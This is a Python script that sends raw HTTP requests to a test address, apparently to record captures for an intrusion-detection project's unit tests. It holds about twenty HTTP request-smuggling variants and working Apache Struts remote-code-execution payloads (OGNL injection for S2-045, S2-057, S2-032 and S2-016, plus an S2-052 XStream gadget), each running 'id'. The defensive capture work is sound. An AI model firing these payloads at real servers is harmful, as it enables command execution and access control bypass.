#!/usr/bin/env python3
"""Raw-socket HTTP/1 client for the threat captures (make.sh): one TCP connection per case,
the bytes sent exactly as written, the server's answer read until it closes or goes quiet.

    http_client.py HOST PORT smuggling|struts

The cases are listed in the order the unit tests expect them (dp/src/detect/captures_tests.rs
names the form each must be recorded as); each smuggling case carries a second request behind
the ambiguous framing (`GET /admin`), as the published attacks do.
"""
import socket
import sys

SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: x\r\n\r\n"


def te(value: bytes, body: bytes = b"0\r\n\r\n") -> bytes:
    return b"POST / HTTP/1.1\r\nHost: 198.18.0.2\r\n" + value + b"\r\n\r\n" + body + SMUGGLED


def chunked(body: bytes) -> bytes:
    return b"POST / HTTP/1.1\r\nHost: 198.18.0.2\r\nTransfer-Encoding: chunked\r\n\r\n" + body + SMUGGLED


SMUGGLING = [
    # CL.TE and TE.CL (PortSwigger's labs), both orders.
    te(b"Content-Length: 6\r\nTransfer-Encoding: chunked"),
    te(b"Transfer-Encoding: chunked\r\nContent-Length: 4", b"5c\r\nGPOST / HTTP/1.1\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"),
    # CL.CL, a differing list.
    te(b"Content-Length: 0\r\nContent-Length: 33"),
    te(b"Content-Length: 0, 33"),
    # Negative, signed and overflowing lengths.
    te(b"Content-Length: -1"),
    te(b"Content-Length: +33"),
    te(b"Content-Length: 18446744073709551649"),
    # TE obfuscations.
    te(b"Transfer-Encoding: xchunked"),
    te(b"Transfer-Encoding: chunked, identity"),
    te(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
    te(b"Transfer-Encoding : chunked"),
    te(b"Transfer-Encoding:\r\n chunked"),
    te(b"X-Pad: 1\r\n Transfer-Encoding: chunked"),
    te(b"Transfer_Encoding: chunked"),
    b"POST / HTTP/1.0\r\nHost: 198.18.0.2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    # Chunked framing.
    chunked(b"0x5\r\nhello\r\n0\r\n\r\n"),
    chunked(b"5\nhello\n0\n\n"),
    chunked(b"3\r\nhelloXX\r\n0\r\n\r\n"),
    chunked(b"fffffffffffffffff\r\nhello\r\n0\r\n\r\n"),
    chunked(b"0\r\nContent-Length: 33\r\n\r\n"),
]

S2_045 = (
    b"%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
    b"(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container'])."
    b"(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
    b"(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id')."
    b"(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
    b"(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
    b"(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
    b"(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}"
)
S2_052 = (
    b'<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">'
    b'<dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource"><is class="javax.crypto.CipherInputStream">'
    b'<cipher class="javax.crypto.NullCipher"><initialized>false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.FilterIterator">'
    b'<iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/><next class="java.lang.ProcessBuilder">'
    b"<command><string>/bin/sh</string><string>-c</string><string>id</string></command><redirectErrorStream>false</redirectErrorStream></next></iter>"
    b'<filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder</class><name>start</name><parameter-types/></method>'
    b"<name>foo</name></filter><next class=\"string\">foo</next></serviceIterator><lock/></cipher><input class=\"java.lang.ProcessBuilder$NullInputStream\"/>"
    b"<ibuffer/><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is><consumed>false</consumed></dataSource><transferFlavors/>"
    b"</dataHandler><dataLen>0</dataLen></value></jdk.nashorn.internal.objects.NativeString><jdk.nashorn.internal.objects.NativeString reference=\"../jdk.nashorn.internal.objects.NativeString\"/>"
    b"</entry></map>"
)
MULTIPART = (
    b"------WebKitFormBoundaryXd004BVJN9pBYBL2\r\n"
    b"Content-Disposition: form-data; name=\"upload\"; filename=\"%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Test','Kaboom')}\x00b\"\r\n"
    b"Content-Type: text/plain\r\n\r\nx\r\n------WebKitFormBoundaryXd004BVJN9pBYBL2--\r\n"
)


def post(path: bytes, ctype: bytes, body: bytes) -> bytes:
    return (b"POST " + path + b" HTTP/1.1\r\nHost: 198.18.0.2\r\nContent-Type: " + ctype
            + b"\r\nContent-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body)


STRUTS = [
    # CVE-2017-5638 (S2-045), Content-Type.
    b"GET /struts2-showcase/index.action HTTP/1.1\r\nHost: 198.18.0.2\r\nContent-Type: " + S2_045 + b"\r\nConnection: close\r\n\r\n",
    # S2-046: a part's filename.
    post(b"/struts2-showcase/fileupload/doUpload.action", b"multipart/form-data; boundary=----WebKitFormBoundaryXd004BVJN9pBYBL2", MULTIPART),
    # CVE-2018-11776 (S2-057): the namespace, encoded, and the scanners' probe.
    b"GET /struts2-showcase/%24%7B%28%23dm%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS%29.%28%23ct%3D%23request%5B%27struts.valueStack%27%5D.context%29."
    b"%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/actionChain1.action HTTP/1.1\r\nHost: 198.18.0.2\r\nConnection: close\r\n\r\n",
    b"GET /struts2-showcase/${(111+111)}/actionChain1.action HTTP/1.1\r\nHost: 198.18.0.2\r\nConnection: close\r\n\r\n",
    # S2-032 (CVE-2016-3081): a `method:` parameter.
    b"GET /struts2-showcase/index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2.ServletActionContext%40getResponse(),"
    b"%23res.setCharacterEncoding(%23parameters.encoding%5B0%5D),%23w%3d%23res.getWriter(),%23w.print(1),%23w.close()&encoding=UTF-8 HTTP/1.1\r\nHost: 198.18.0.2\r\nConnection: close\r\n\r\n",
    # S2-016: `redirect:` in a form.
    post(b"/struts2-showcase/index.action", b"application/x-www-form-urlencoded",
         b"redirect%3A%24%7B%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse%2C%23f%3D%23_memberAccess.getClass%28%29%7D=1"),
    # CVE-2017-9805 (S2-052): the REST plugin's XStream.
    post(b"/struts2-rest-showcase/orders/3", b"application/xml", S2_052),
]


def run(host: str, port: int, cases: list) -> None:
    for payload in cases:
        s = socket.create_connection((host, port), timeout=3)
        s.sendall(payload)
        s.settimeout(0.5)
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
        s.close()


if __name__ == "__main__":
    run(sys.argv[1], int(sys.argv[2]), {"smuggling": SMUGGLING, "struts": STRUTS}[sys.argv[3]])
